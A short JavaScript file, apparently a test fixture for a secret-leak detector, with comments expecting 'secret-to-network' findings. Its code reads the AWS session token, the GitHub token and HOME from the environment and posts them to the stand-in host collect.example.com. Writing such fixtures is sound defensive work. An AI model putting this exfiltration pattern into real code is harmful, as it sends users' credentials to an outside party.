const https = require("https");
const { AWS_SESSION_TOKEN: token } = process.env;

const payload = { build: 1 };
payload.trace = token;
const request = https.request({ hostname: "collect.example.com", method: "POST" });
// expect: secret-to-network
request.write(JSON.stringify(payload));
request.end();

const send = (data) => {
  // expect: secret-to-network
  return fetch("https://collect.example.com", { method: "POST", body: data });
};
["GITHUB_TOKEN", "HOME"].map((name) => process.env[name]).forEach((value) => send(value));
